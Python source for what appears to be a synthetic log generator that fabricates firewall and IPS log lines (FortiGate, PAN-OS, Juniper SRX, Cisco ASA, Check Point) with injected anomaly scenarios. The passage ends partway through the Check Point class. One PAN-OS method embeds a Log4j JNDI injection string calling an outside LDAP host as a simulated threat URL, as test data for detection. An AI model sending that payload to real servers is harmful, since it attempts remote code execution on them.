"""Network and security appliance formats: FortiGate, PAN-OS, Juniper SRX, Cisco ASA, Check Point,
F5 BIG-IP (LTM + ASM), Citrix NetScaler, Sophos XG, Linux UFW/syslog, strongSwan, Trend Micro
Deep Security LEEF, Blue Coat ProxySG ELFF."""
from common import Fmt, MON, UAS, COUNTRIES, SCAN_COUNTRIES, syslog_ts, iso_off, hexid, uuid, utc

SVC = [('HTTPS', 6, 443, 'ssl'), ('HTTPS', 6, 443, 'ssl'), ('HTTP', 6, 80, 'web-browsing'), ('DNS', 17, 53, 'dns'),
       ('HTTPS', 6, 443, 'ssl'), ('NTP', 17, 123, 'ntp'), ('SMTPS', 6, 465, 'smtp'), ('SSH', 6, 22, 'ssh'),
       ('HTTPS', 6, 443, 'office365-base'), ('QUIC', 17, 443, 'quic')]
SCAN_PORTS = [22, 23, 445, 3389, 1433, 3306, 5900, 8080, 8443, 6379, 9200, 2375, 5060, 161, 25, 110, 143]


def eph(r):
    return r.randint(32768, 60999)


class FortiGate(Fmt):
    key, fname, clock, weight = 'fortigate', 'fortigate.log', 'offset', 4.0
    product = 'FortiGate firewall'
    hb_every = 300
    warn_per_min, err_per_min = 0.6, 0.4
    desc = {'error_burst': 'IPS signature storm on the FortiGate: one known attack signature fires many times more than usual.',
            'new_error': 'FortiGate IPS starts matching a critical signature (SSL-VPN heap overflow exploit) never seen before.',
            'traffic_flood': 'Inbound flood (DDoS/scan) against the FortiGate WAN address; denied sessions explode.',
            'oom_kill': 'FortiGate enters memory conserve mode and the kernel kills ipsengine out of memory.',
            'disk_full': 'FortiGate log disk is full and disk logging stops.'}

    def setup(self):
        r = self.rng
        self.devid = 'FG%sFTK%08d' % (r.choice(['100F', '200F', '600E', '1800F']), r.randint(19000000, 23999999))
        self.sid = r.randint(10 ** 8, 9 * 10 ** 8)
        self.boot = None
        self.attack = r.choice([('HTTP.URI.SQL.Injection', 15621), ('Web.Server.Password.Files.Access', 12345),
                                ('PHP.CGI.Argument.Injection', 32386), ('Apache.Log4j.Error.Log.Remote.Code.Execution', 51006)])
        self.tunnels = ['to-branch-%02d' % i for i in range(1, r.randint(3, 9))]

    def pre(self, t, logid, typ, sub, level):
        d = self.loc(t)
        return ('date=%s time=%s devname="%s" devid="%s" eventtime=%d%03d tz="%s" logid="%s" type="%s" subtype="%s" '
                'level="%s" vd="root"' % (d.strftime('%Y-%m-%d'), d.strftime('%H:%M:%S'), self.host, self.devid,
                                          int(t * 1e6), self.rng.randint(0, 999), d.strftime('%z'), logid, typ, sub, level))

    def normal(self, t, st):
        r, c = self.rng, self.ctx
        self.sid += r.randint(1, 30)
        if st.flood or r.random() < 0.1:
            src = r.choice(c.scan_ips[:5]) if st.flood else r.choice(c.pub_in)
            dp = r.choice([443, 80]) if st.flood and r.random() < 0.7 else r.choice(SCAN_PORTS)
            cc = r.choice(SCAN_COUNTRIES if st.flood else COUNTRIES)[1]
            return (self.pre(t, '0000000013', 'traffic', 'forward', 'notice') +
                    ' srcip=%s srcport=%d srcintf="wan1" srcintfrole="wan" dstip=%s dstport=%d dstintf="root" '
                    'dstintfrole="undefined" srccountry="%s" dstcountry="Reserved" sessionid=%d proto=6 action="deny" '
                    'policyid=0 policytype="local-in-policy" service="tcp/%d" trandisp="noop" duration=0 sentbyte=0 '
                    'rcvdbyte=0 sentpkt=0 rcvdpkt=0 appcat="unscanned" crscore=5 craction=262144 crlevel="low"'
                    % (src, eph(r), c.my_pub, dp, cc, self.sid, dp))
        name, proto, port, app = r.choice(SVC)
        dur = int(r.expovariate(1 / 40))
        sb, rb = r.randint(60, 9000), int(r.expovariate(1 / 40000))
        act = r.choice(['close', 'close', 'close', 'accept', 'timeout', 'server-rst', 'client-rst'])
        return (self.pre(t, '0000000013', 'traffic', 'forward', 'notice') +
                ' srcip=%s srcport=%d srcintf="port1" srcintfrole="lan" dstip=%s dstport=%d dstintf="wan1" '
                'dstintfrole="wan" srccountry="Reserved" dstcountry="%s" sessionid=%d proto=%d action="%s" policyid=%d '
                'policytype="policy" poluuid="%s" policyname="LAN-to-WAN" service="%s" trandisp="snat" transip=%s '
                'transport=%d appcat="unscanned" applist="default" duration=%d sentbyte=%d rcvdbyte=%d sentpkt=%d rcvdpkt=%d'
                % (r.choice(c.lan), eph(r), r.choice(c.ext_dst), port, r.choice(COUNTRIES)[1], self.sid, proto, act,
                   r.choice([3, 5, 12]), self.devid[-8:].lower() + '-1c2d-51ec-8f3a-' + hexid(r, 12), name, c.my_pub,
                   eph(r), dur, sb, rb, max(1, sb // 600), max(1, rb // 1300)))

    def heartbeat(self, t):
        r = self.rng
        if self.boot is None:
            self.boot = t - r.uniform(3e5, 9e6)
        cpu, mem = r.randint(4, 25), r.randint(38, 52)
        ses = r.randint(8000, 30000)
        return (self.pre(t, '0100040704', 'event', 'system', 'notice') +
                ' logdesc="System performance statistics" action="perf-stats" cpu=%d mem=%d totalsession=%d disk=%d '
                'bandwidth="%d/%d" setuprate=%d disklograte=%d fazlograte=%d freediskstorage=%d sysuptime=%d '
                'msg="Performance statistics: average CPU: %d, memory:  %d, concurrent sessions:  %d, setup-rate: %d"'
                % (cpu, mem, ses, r.randint(1, 3), r.randint(20000, 90000), r.randint(80000, 400000), r.randint(20, 90),
                   r.randint(5, 40), r.randint(5, 40), r.randint(40000, 60000), int(t - self.boot), cpu, mem, ses,
                   r.randint(20, 90)))

    def warn(self, t):
        r = self.rng
        tun = r.choice(self.tunnels)
        return (self.pre(t, '0101037141', 'event', 'vpn', 'notice') +
                ' logdesc="IPsec tunnel statistics" msg="IPsec tunnel statistics" action="tunnel-stats" remip=%s '
                'locip=%s remport=500 locport=500 outintf="wan1" cookies="%s/%s" user="N/A" group="N/A" '
                'xauthuser="N/A" xauthgroup="N/A" assignip=N/A vpntunnel="%s" tunnelip=N/A tunnelid=%d '
                'tunneltype="ipsec" duration=%d sentbyte=%d rcvdbyte=%d nextstat=600'
                % (r.choice(self.ctx.pub_in[:12]), self.ctx.my_pub, hexid(r, 16), hexid(r, 16), tun,
                   r.randint(10 ** 8, 9 * 10 ** 8), r.randint(1000, 90000), r.randint(10 ** 5, 10 ** 9), r.randint(10 ** 5, 10 ** 9)))

    def _ips(self, t, attack, aid, sev, dport, msgcat):
        r, c = self.rng, self.ctx
        self.sid += 1
        return (self.pre(t, '0419016384', 'utm', 'ips', 'alert') +
                ' eventtype="signature" severity="%s" srcip=%s srccountry="%s" dstip=%s srcintf="wan1" '
                'srcintfrole="wan" dstintf="dmz" dstintfrole="dmz" sessionid=%d action="dropped" proto=6 '
                'service="HTTPS" policyid=7 attack="%s" srcport=%d dstport=%d hostname="%s" url="/" direction="outgoing" '
                'attackid=%d profile="default" ref="http://www.fortinet.com/ids/VID%d" incidentserialno=%d '
                'msg="%s: %s," crscore=50 craction=4096 crlevel="critical"'
                % (sev, r.choice(c.pub_in + c.scan_ips), r.choice(COUNTRIES + SCAN_COUNTRIES)[1], r.choice(c.dmz),
                   self.sid, attack, eph(r), dport, r.choice(c.sites), aid, aid, r.randint(10 ** 8, 2 * 10 ** 9), msgcat, attack))

    def err(self, t):
        return self._ips(t, self.attack[0], self.attack[1], 'high', 443, 'web_app3')

    def new_err(self, t):
        return self._ips(t, 'Fortinet.FortiOS.SSL.VPN.Heap.Buffer.Overflow', 53010, 'critical', 10443, 'applications3')

    def disk(self, t):
        return (self.pre(t, '0100022003', 'event', 'system', 'critical') +
                ' logdesc="Log disk full" msg="Log disk is full. Logging to disk has stopped, new logs will be dropped."')

    def oom(self, t):
        r = self.rng
        pid = r.randint(200, 900)
        return [(t, self.pre(t, '0100022011', 'event', 'system', 'critical') +
                 ' logdesc="Memory conserve mode entered" msg="Kernel enters memory conserve mode" mem=%d' % r.randint(88, 93)),
                (t + 4, self.pre(t + 4, '0100020010', 'event', 'system', 'critical') +
                 ' logdesc="Process killed" msg="Kernel out of memory: killed process ipsengine (pid %d), total-vm:%dkB"' % (pid, r.randint(900000, 1400000))),
                (t + 9, self.pre(t + 9, '0100020011', 'event', 'system', 'warning') +
                 ' logdesc="Daemon restarted" msg="ipsengine restarted after abnormal exit (pid %d)"' % (pid + r.randint(1, 50))),
                (t + 95, self.pre(t + 95, '0100022012', 'event', 'system', 'notice') +
                 ' logdesc="Memory conserve mode exited" msg="Kernel leaves memory conserve mode" mem=%d' % r.randint(60, 70))]


class PanOS(Fmt):
    key, fname, clock, weight = 'panos', 'paloalto.log', 'local', 4.0
    product = 'Palo Alto PAN-OS firewall'
    warn_per_min, err_per_min = 0.5, 0.4
    desc = {'error_burst': 'THREAT log storm on PAN-OS: a known vulnerability signature fires many-fold.',
            'new_error': 'PAN-OS logs a critical THREAT signature (Log4j RCE) never seen before, repeatedly.',
            'disk_full': 'PAN-OS SYSTEM log reports the log disk partition full (no space left).',
            'panic': 'A PAN-OS dataplane process crashes with SIGSEGV, a core file is saved and the dataplane restarts.',
            'traffic_flood': 'Connection flood from a handful of sources; PAN-OS TRAFFIC records jump many-fold.'}

    def setup(self):
        r = self.rng
        self.serial = '0132010%05d' % r.randint(0, 99999)
        self.seq = r.randint(10 ** 9, 9 * 10 ** 9)
        self.sid = r.randint(10 ** 5, 9 * 10 ** 5)
        self.sig = r.choice([('HTTP /etc/passwd Access Attempt', 35107), ('HTTP Directory Traversal Request Attempt', 30844),
                             ('SIPVicious Scanner Detection', 54601)])

    def head(self, t, typ, sub):
        d = self.loc(t)
        g = self.loc(t - self.rng.uniform(0, 1.5))
        self.seq += 1
        return '%s %s 1,%s,%s,%s,%s,2561,%s' % (syslog_ts(d), self.host, d.strftime('%Y/%m/%d %H:%M:%S'), self.serial,
                                               typ, sub, g.strftime('%Y/%m/%d %H:%M:%S'))

    def normal(self, t, st):
        r, c = self.rng, self.ctx
        self.sid += r.randint(1, 20)
        gen = self.loc(t).strftime('%Y/%m/%d %H:%M:%S')
        if st.flood or r.random() < 0.08:
            src = r.choice(c.scan_ips[:4]) if st.flood else r.choice(c.pub_in)
            dp = r.choice(SCAN_PORTS)
            return (self.head(t, 'TRAFFIC', 'deny') +
                    ',%s,%s,0.0.0.0,0.0.0.0,deny-all-inbound,,,not-applicable,vsys1,untrust,trust,ethernet1/1,,Forward-SIEM,%s,0,1,%d,%d,0,0,0x0,tcp,'
                    'deny,60,60,0,1,%s,0,any,0,%d,0x8000000000000000,%s,%s,0,1,0,policy-deny,0,0,0,0,,%s,from-policy,,,0,,0,,N/A,0,0,0,0'
                    % (src, c.my_pub, gen, eph(r), dp, gen, self.seq, r.choice(SCAN_COUNTRIES)[1], 'United States', self.host))
        name, proto, port, app = r.choice(SVC)
        b1, b2 = r.randint(80, 9000), int(r.expovariate(1 / 50000))
        el = int(r.expovariate(1 / 30))
        reason = r.choice(['tcp-fin', 'tcp-fin', 'aged-out', 'tcp-rst-from-client', 'tcp-rst-from-server'])
        user = ('%s\\%s' % (c.org, c.user(r))) if r.random() < 0.7 else ''
        start = self.loc(t - el).strftime('%Y/%m/%d %H:%M:%S')
        return (self.head(t, 'TRAFFIC', 'end') +
                ',%s,%s,%s,%s,allow-outbound,%s,,%s,vsys1,trust,untrust,ethernet1/2,ethernet1/1,Forward-SIEM,%s,%d,1,%d,%d,%d,%d,'
                '0x41c000,%s,allow,%d,%d,%d,%d,%s,%d,%s,0,%d,0x8000000000000000,10.0.0.0-10.255.255.255,%s,0,%d,%d,%s,0,0,0,0,,%s,'
                'from-policy,,,0,,0,,N/A,0,0,0,0' % (
                    r.choice(c.lan), r.choice(c.ext_dst), c.my_pub, '0.0.0.0', user, app, gen, self.sid, eph(r), port, eph(r),
                    port, 'tcp' if proto == 6 else 'udp', b1 + b2, b1, b2, max(2, (b1 + b2) // 900), start, el,
                    r.choice(['computer-and-internet-info', 'business-and-economy', 'web-advertisements', 'news', 'search-engines']),
                    self.seq, r.choice(COUNTRIES)[1], max(1, b1 // 600), max(1, b2 // 1300), reason, self.host))

    def _threat(self, t, name, tid, sev, app, url):
        r, c = self.rng, self.ctx
        gen = self.loc(t).strftime('%Y/%m/%d %H:%M:%S')
        self.sid += 1
        return (self.head(t, 'THREAT', 'vulnerability') +
                ',%s,%s,0.0.0.0,%s,allow-dmz-web,,,%s,vsys1,untrust,dmz,ethernet1/1,ethernet1/3,Forward-SIEM,%s,%d,1,%d,443,0,0,'
                '0x80402000,tcp,reset-both,"%s",%s(%d),any,%s,client-to-server,%d,0x2000000000000000,%s,10.0.0.0-10.255.255.255,0,,,0,,,,,,,,,,,,,,,,0,,,,,,%s,,,,,0,'
                % (r.choice(c.pub_in + c.scan_ips), c.my_pub, r.choice(c.dmz), app, gen, self.sid, eph(r), url, name, tid, sev,
                   self.seq, r.choice(COUNTRIES + SCAN_COUNTRIES)[1], self.host))

    def err(self, t):
        return self._threat(t, self.sig[0], self.sig[1], 'high', 'web-browsing', self.ctx.path(self.rng))

    def new_err(self, t):
        return self._threat(t, 'Apache Log4j Remote Code Execution Vulnerability', 91991, 'critical', 'web-browsing',
                            '/?x=${jndi:ldap://%s/a}' % self.rng.choice(self.ctx.scan_ips))

    def _sys(self, t, sub, eid, obj, mod, sev, msg):
        return self.head(t, 'SYSTEM', sub) + ',,%s,%s,0,0,%s,%s,"%s",%d,0x0,0,0,0,0,,%s,0,0,%s' % (
            eid, obj, mod, sev, msg, self.seq, self.host, iso_off(self.loc(t)))

    def warn(self, t):
        r, c = self.rng, self.ctx
        if r.random() < 0.5:
            return self._sys(t, 'auth', 'auth-success', 'admin', 'general', 'informational',
                             'authenticated for user \'%s\'.   auth profile \'Corp-LDAP\', vsys \'shared\', server profile \'AD-DCs\', server address \'10.10.0.11\', From: %s.' % (c.user(r), r.choice(c.lan)))
        return self._sys(t, 'globalprotect', 'globalprotectgateway-regist-succ', '', 'general', 'informational',
                         'GlobalProtect gateway client configuration generated. User name: %s, Private IP: 10.99.%d.%d, Client version: 6.1.3-16, Device name: %s-LT, Client OS version: Microsoft Windows 11 Enterprise , 64-bit, VPN type: Device Level VPN.' % (
                             c.user(r), r.randint(0, 3), r.randint(2, 250), c.user(r).split('.')[0].upper()))

    def disk(self, t):
        return self._sys(t, 'general', 'general', '', 'general', 'critical',
                         'logd: log partition /opt/panlogs is full (100%% used), no space left on device; new logs are discarded')

    def panic(self, t):
        r = self.rng
        proc = r.choice(['all_pktproc_3', 'pan_comm', 'all_pktproc_5'])
        return [(t, self._sys(t, 'general', 'general', '', 'general', 'critical',
                              'The process %s on dp0 exited with signal 11 (SIGSEGV); core file saved to /var/cores/crashinfo/%s_10.2.7.core.tgz' % (proc, proc))),
                (t + 1, self._sys(t + 1, 'general', 'general', '', 'general', 'critical', 'Dataplane dp0 is restarting after a process crash')),
                (t + r.uniform(70, 140), self._sys(t + 100, 'general', 'general', '', 'general', 'high', 'Dataplane dp0 is now up'))]


class Srx(Fmt):
    key, fname, clock, weight = 'srx', 'srx-edge01.log', 'offset', 4.5
    product = 'Juniper SRX firewall'
    warn_per_min, err_per_min = 0.3, 0.4
    desc = {'error_burst': 'IDP attack logs on the SRX rise many-fold (the same known signature).',
            'new_error': 'SRX starts logging RT_SCREEN_SESSION_LIMIT drops (destination session limit), never seen before.',
            'panic': 'SRX flowd crashes with signal 11 and dumps core; init restarts the flow daemon.'}
    SD = 'junos@2636.1.1.1.2.129'

    def setup(self):
        self.sid = self.rng.randint(10 ** 5, 9 * 10 ** 5)
        self.open = []
        self.flowpid = self.rng.randint(1500, 3000)

    def pre(self, t, pri, app, msgid):
        return '<%d>1 %s %s %s - %s' % (pri, iso_off(self.loc(t)), self.host, app, msgid)

    def normal(self, t, st):
        r, c = self.rng, self.ctx
        x = r.random()
        if st.flood or x < 0.1:
            src = r.choice(c.scan_ips[:6]) if st.flood else r.choice(c.pub_in)
            dp = r.choice([443, 80, 53]) if st.flood else r.choice(SCAN_PORTS)
            self.sid += 1
            return (self.pre(t, 14, 'RT_FLOW', 'RT_FLOW_SESSION_DENY') +
                    ' [%s source-address="%s" source-port="%d" destination-address="%s" destination-port="%d" connection-tag="0" '
                    'service-name="None" protocol-id="6" icmp-type="0" policy-name="deny-all" source-zone-name="untrust" '
                    'destination-zone-name="trust" application="UNKNOWN" nested-application="UNKNOWN" username="N/A" roles="N/A" '
                    'packet-incoming-interface="ge-0/0/0.0" encrypted="No" reason="policy deny" session-id-32="%d"] '
                    'session denied %s/%d->%s/%d 0x0 None 6(0) deny-all untrust trust UNKNOWN UNKNOWN N/A(N/A) ge-0/0/0.0 No policy deny'
                    % (self.SD, src, eph(r), c.my_pub, dp, self.sid, src, eph(r), c.my_pub, dp))
        if x < 0.55 or not self.open:
            self.sid += 1
            name, proto, port, app = r.choice(SVC)
            s = (r.choice(c.lan), eph(r), r.choice(c.ext_dst), port, proto, self.sid, 'junos-' + name.lower(), eph(r), t)
            self.open.append(s)
            if len(self.open) > 400:
                self.open.pop(0)
            return (self.pre(t, 14, 'RT_FLOW', 'RT_FLOW_SESSION_CREATE') +
                    ' [%s source-address="%s" source-port="%d" destination-address="%s" destination-port="%d" connection-tag="0" '
                    'service-name="%s" nat-source-address="%s" nat-source-port="%d" nat-destination-address="%s" '
                    'nat-destination-port="%d" src-nat-rule-type="source rule" src-nat-rule-name="snat-internet" '
                    'protocol-id="%d" policy-name="trust-to-untrust" source-zone-name="trust" destination-zone-name="untrust" '
                    'session-id-32="%d" username="N/A" roles="N/A" packet-incoming-interface="ge-0/0/1.0" application="UNKNOWN" '
                    'nested-application="UNKNOWN" encrypted="UNKNOWN"] session created %s/%d->%s/%d 0x0 %s %s/%d->%s/%d 0x0 '
                    'source rule snat-internet N/A N/A %d trust-to-untrust trust untrust %d N/A(N/A) ge-0/0/1.0 UNKNOWN UNKNOWN UNKNOWN'
                    % (self.SD, s[0], s[1], s[2], s[3], s[6], c.my_pub, s[7], s[2], s[3], s[4], s[5],
                       s[0], s[1], s[2], s[3], s[6], c.my_pub, s[7], s[2], s[3], s[4], s[5]))
        s = self.open.pop(r.randrange(len(self.open)))
        reason = r.choice(['TCP FIN', 'TCP FIN', 'TCP RST', 'idle Timeout', 'response received'])
        b1, b2 = r.randint(100, 9000), int(r.expovariate(1 / 40000))
        return (self.pre(t, 14, 'RT_FLOW', 'RT_FLOW_SESSION_CLOSE') +
                ' [%s reason="%s" source-address="%s" source-port="%d" destination-address="%s" destination-port="%d" '
                'service-name="%s" nat-source-address="%s" nat-source-port="%d" protocol-id="%d" policy-name="trust-to-untrust" '
                'source-zone-name="trust" destination-zone-name="untrust" session-id-32="%d" packets-from-client="%d" '
                'bytes-from-client="%d" packets-from-server="%d" bytes-from-server="%d" elapsed-time="%d" application="UNKNOWN" '
                'username="N/A" roles="N/A" packet-incoming-interface="ge-0/0/1.0" encrypted="UNKNOWN"] session closed %s: '
                '%s/%d->%s/%d 0x0 %s %s/%d->%s/%d 0x0 %d trust-to-untrust trust untrust %d %d(%d) %d(%d) %d UNKNOWN'
                % (self.SD, reason, s[0], s[1], s[2], s[3], s[6], c.my_pub, s[7], s[4], s[5], max(1, b1 // 600), b1,
                   max(1, b2 // 1300), b2, int(t - s[8]), reason, s[0], s[1], s[2], s[3], s[6], c.my_pub, s[7], s[2], s[3],
                   s[4], s[5], max(1, b1 // 600), b1, max(1, b2 // 1300), b2, int(t - s[8])))

    def warn(self, t):
        r, c = self.rng, self.ctx
        u = r.choice(['netops', 'jsmith-adm', 'automation'])
        return (self.pre(t, 29, 'mgd', '%d UI_CMDLINE_READ_LINE' % r.randint(20000, 40000)) +
                ' [%s username="%s" command="show security flow session summary"] User \'%s\', command \'show security flow session summary \''
                % (self.SD, u, u))

    def err(self, t):
        r, c = self.rng, self.ctx
        src, dst = r.choice(c.pub_in + c.scan_ips), r.choice(c.dmz)
        sp = eph(r)
        return (self.pre(t, 11, 'RT_IDP', 'IDP_ATTACK_LOG_EVENT') +
                ' [%s epoch-time="%d" message-type="SIG" source-address="%s" source-port="%d" destination-address="%s" '
                'destination-port="80" protocol-name="TCP" service-name="SERVICE_IDP" application-name="HTTP" rule-name="3" '
                'rulebase-name="IPS" policy-name="Recommended" export-id="15229" repeat-count="0" action="DROP" '
                'threat-severity="HIGH" attack-name="HTTP:DIR:TRAVERSE-DIR" source-zone-name="untrust" destination-zone-name="dmz"] '
                'IDP: at %d, SIG Attack log <%s/%d->%s/80> for TCP protocol and service SERVICE_IDP application HTTP by rule 3 of '
                'rulebase IPS in policy Recommended. attack: id=15229, repeat=0, action=DROP, threat-severity=HIGH, '
                'name=HTTP:DIR:TRAVERSE-DIR, NAT <0.0.0.0:0->0.0.0.0:0>, time-elapsed=0, inbytes=0, outbytes=0, inpackets=0, '
                'outpackets=0, intf:untrust:ge-0/0/0.0->dmz:ge-0/0/2.0, packet-log-id: 0, alert=no, username=N/A, roles=N/A and misc-message -'
                % (self.SD, int(t), src, sp, dst, int(t), src, sp, dst))

    def new_err(self, t):
        r, c = self.rng, self.ctx
        dst = c.dmz[0]
        return (self.pre(t, 12, 'RT_IDS', 'RT_SCREEN_SESSION_LIMIT') +
                ' [%s attack-name="Dst IP session limit!" source-address="%s" source-port="%d" destination-address="%s" '
                'destination-port="443" protocol-id="6" source-zone-name="untrust" interface-name="ge-0/0/0.0" action="drop"] '
                'Dst IP session limit! source: %s:%d, destination: %s:443, protocol-id: 6, zone name: untrust, interface name: ge-0/0/0.0, action: drop'
                % (self.SD, r.choice(c.pub_in), eph(r), dst, r.choice(c.pub_in), eph(r), dst))

    def panic(self, t):
        r = self.rng
        old, self.flowpid = self.flowpid, self.flowpid + r.randint(200, 30000)
        return [(t, self.pre(t, 10, 'kernel', '- -') + ' pid %d (flowd_octeon_hm), jid 0, uid 0: exited on signal 11 (core dumped)' % old),
                (t + 0.8, self.pre(t + 0.8, 10, 'init', '- -') + ' flow daemon (PID %d) terminated by signal number 11. Core dumped!' % old),
                (t + 1.0, self.pre(t + 1.0, 12, 'chassisd', '- CHASSISD_SNMP_TRAP10') + ' [%s trap="fruOffline" fru-name="FPC 0"] SNMP trap generated: FRU power off (jnxFruContentsIndex 7, jnxFruL1Index 1, jnxFruName FPC: SRX345 @ 0/*/*)' % self.SD),
                (t + 28, self.pre(t + 28, 13, 'init', '- -') + ' flow daemon (PID %d) started' % self.flowpid),
                (t + 41, self.pre(t + 41, 14, 'chassisd', '- CHASSISD_SNMP_TRAP10') + ' [%s trap="fruOnline" fru-name="FPC 0"] SNMP trap generated: FRU power on (jnxFruContentsIndex 7, jnxFruL1Index 1, jnxFruName FPC: SRX345 @ 0/*/*)' % self.SD)]


class CiscoASA(Fmt):
    key, fname, clock, weight = 'asa', 'asa.log', 'local', 4.0
    product = 'Cisco ASA'
    warn_per_min, err_per_min = 0.5, 0.35
    desc = {'error_burst': 'AAA authentication rejections (%ASA-6-113015) on the ASA rise many-fold: VPN password spraying.',
            'new_error': 'ASA logs %ASA-3-202010 NAT/PAT pool exhausted; new outbound connections cannot be built.'}

    def setup(self):
        self.cid = self.rng.randint(10 ** 7, 9 * 10 ** 8)
        self.open = []

    def pre(self, t, sev, mid):
        d = self.loc(t)
        return '%s %02d %d %s %s : %%ASA-%d-%d: ' % (MON[d.month - 1], d.day, d.year, d.strftime('%H:%M:%S'), self.host, sev, mid)

    def normal(self, t, st):
        r, c = self.rng, self.ctx
        x = r.random()
        if st.flood or x < 0.1:
            src = r.choice(c.scan_ips[:6]) if st.flood else r.choice(c.pub_in)
            dp = r.choice([443, 80]) if st.flood else r.choice(SCAN_PORTS)
            return self.pre(t, 4, 106023) + 'Deny tcp src outside:%s/%d dst inside:%s/%d by access-group "outside_access_in" [0x0, 0x0]' % (
                src, eph(r), c.my_pub, dp)
        if x < 0.5 or not self.open:
            self.cid += r.randint(1, 5)
            name, proto, port, app = r.choice(SVC)
            s = (self.cid, r.choice(c.lan), eph(r), r.choice(c.ext_dst), port, proto, t)
            self.open.append(s)
            if len(self.open) > 300:
                self.open.pop(0)
            if proto == 17:
                return self.pre(t, 6, 302015) + 'Built outbound UDP connection %d for outside:%s/%d (%s/%d) to inside:%s/%d (%s/%d)' % (
                    s[0], s[3], port, s[3], port, s[1], s[2], c.my_pub, s[2])
            return self.pre(t, 6, 302013) + 'Built outbound TCP connection %d for outside:%s/%d (%s/%d) to inside:%s/%d (%s/%d)' % (
                s[0], s[3], port, s[3], port, s[1], s[2], c.my_pub, s[2])
        if x < 0.58:
            return self.pre(t, 6, 305011) + 'Built dynamic TCP translation from inside:%s/%d to outside:%s/%d' % (
                r.choice(c.lan), eph(r), c.my_pub, eph(r))
        s = self.open.pop(r.randrange(len(self.open)))
        d = int(t - s[6])
        dur = '%d:%02d:%02d' % (d // 3600, d % 3600 // 60, d % 60)
        if s[5] == 17:
            return self.pre(t, 6, 302016) + 'Teardown UDP connection %d for outside:%s/%d to inside:%s/%d duration %s bytes %d' % (
                s[0], s[3], s[4], s[1], s[2], dur, r.randint(60, 1500))
        return self.pre(t, 6, 302014) + 'Teardown TCP connection %d for outside:%s/%d to inside:%s/%d duration %s bytes %d %s' % (
            s[0], s[3], s[4], s[1], s[2], dur, int(r.expovariate(1 / 30000)),
            r.choice(['TCP FINs', 'TCP FINs', 'TCP Reset-I', 'TCP Reset-O', 'SYN Timeout']))

    def warn(self, t):
        r, c = self.rng, self.ctx
        if r.random() < 0.5:
            return self.pre(t, 4, 419002) + 'Duplicate TCP SYN from inside:%s/%d to outside:%s/443 with different initial sequence number' % (
                r.choice(c.lan), eph(r), r.choice(c.ext_dst))
        return self.pre(t, 6, 113004) + 'AAA user authentication Successful : server =  10.10.0.11 : user = %s' % c.user(r)

    def err(self, t):
        r, c = self.rng, self.ctx
        return self.pre(t, 6, 113015) + 'AAA user authentication Rejected : reason = AAA failure : server = 10.10.0.11 : user = ***** : user IP = %s' % (
            r.choice(c.pub_in + c.scan_ips))

    def new_err(self, t):
        r, c = self.rng, self.ctx
        return self.pre(t, 3, 202010) + 'NAT/PAT pool exhausted for outside-pat-pool, port range 1024-65535. Unable to create TCP connection from inside:%s/%d to outside:%s/443' % (
            r.choice(c.lan), eph(r), r.choice(c.ext_dst))

    def restart(self, t_stop, t_start):
        out = []
        if t_stop is not None:
            out.append((t_stop, self.pre(t_stop, 5, 111008) + "User 'netadmin' executed the 'reload' command."))
            out.append((t_stop + 0.4, self.pre(t_stop + 0.4, 5, 199001) + 'Reload command executed from SSH (remote 10.10.0.5).'))
        out.append((t_start, self.pre(t_start, 6, 199002) + 'Startup completed.  Beginning operation.'))
        out.append((t_start + 2, self.pre(t_start + 2, 5, 199017) + 'syslog-ng 3.x: logging host 10.10.0.40 now reachable'))
        return out


class CheckPoint(Fmt):
    key, fname, clock, weight = 'checkpoint', 'checkpoint.log', 'utc', 4.0
    product = 'Check Point gateway'
    warn_per_min, err_per_min = 0.4, 0.3
    desc = {'error_burst': 'Check Point IPS prevents the same known protection many-fold (IPS storm).',
            'new_error': 'Check Point Anti-Bot starts blocking C&C communication of a malware family never seen before.'}

    def setup(self):
        r = self.rng
        self.seq = r.randint(1, 1000)
        self.uid0 = r.randint(0x60000000, 0x6fffffff)
        self.sic = 'CN=%s,O=cp-mgmt.%s.%s' % (self.host, self.ctx.domain, hexid(r, 6))
        self.rule_uid = uuid(r)

    def pre(self, t):
        d = utc(t)
        self.seq += 1
        return '<134>1 %s %s CheckPoint %d - [action:"%%s"; flags:"411908"; ifdir:"%%s"; ifname:"%%s"; logid:"0"; ' \
               'loguid:"{0x%x,0x%x,0x%s,0xc0000000}"; origin:"10.0.0.2"; originsicname:"%s"; sequencenum:"%d"; time:"%d"; version:"5"; ' % (
                   d.strftime('%Y-%m-%dT%H:%M:%SZ'), self.host, 24000 + self.seq % 3000, int(t) & 0xffffffff, self.seq % 4096,
                   hexid(self.rng, 8), self.sic, self.seq % 100000, int(t))

    def normal(self, t, st):
        r, c = self.rng, self.ctx
        if st.flood or r.random() < 0.1:
            src = r.choice(c.scan_ips[:5]) if st.flood else r.choice(c.pub_in)
            dp = r.choice([443, 80]) if st.flood else r.choice(SCAN_PORTS)
            return (self.pre(t) % ('Drop', 'inbound', 'eth0') +
                    'dst:"%s"; inzone:"External"; layer_name:"Network"; match_id:"99"; parent_rule:"0"; rule_action:"Drop"; '
                    'rule_name:"Cleanup rule"; rule_uid:"%s"; outzone:"Local"; product:"VPN-1 & FireWall-1"; proto:"6"; s_port:"%d"; '
                    'service:"%d"; src:"%s"]' % (c.my_pub, self.rule_uid, eph(r), dp, src))
        name, proto, port, app = r.choice(SVC)
        return (self.pre(t) % ('Accept', 'outbound', 'eth1') +
                'dst:"%s"; inzone:"Internal"; layer_name:"Network"; match_id:"3"; parent_rule:"0"; rule_action:"Accept"; '
                'rule_name:"Internet access"; outzone:"External"; product:"VPN-1 & FireWall-1"; proto:"%d"; s_port:"%d"; service:"%d"; '
                'service_id:"%s"; src:"%s"; xlatedport:"0"; xlatedst:"0.0.0.0"; xlatesport:"%d"; xlatesrc:"%s"]'
                % (r.choice(c.ext_dst), proto, eph(r), port, name.lower(), r.choice(c.lan), eph(r), c.my_pub))

    def warn(self, t):
        r, c = self.rng, self.ctx
        u = c.user(r)
        return (self.pre(t) % ('Update', 'inbound', 'daemon') +
                'auth_method:"Machine Authentication (Active Directory)"; identity_src:"AD Query"; identity_type:"user"; '
                'product:"Identity Awareness"; src:"%s"; src_user_name:"%s (%s)"; user:"%s"]' % (r.choice(c.lan), u.replace('.', ' ').title(), u, u))

    def err(self, t):
        r, c = self.rng, self.ctx
        return (self.pre(t) % ('Prevent', 'inbound', 'eth0') +
                'attack:"Apache HTTP Server Path Traversal"; attack_info:"Apache HTTP Server Path Traversal (CVE-2021-41773)"; '
                'confidence_level:"High"; dst:"%s"; performance_impact:"Low"; product:"IPS"; protection_id:"asm_dynamic_prop_CVE_2021_41773"; '
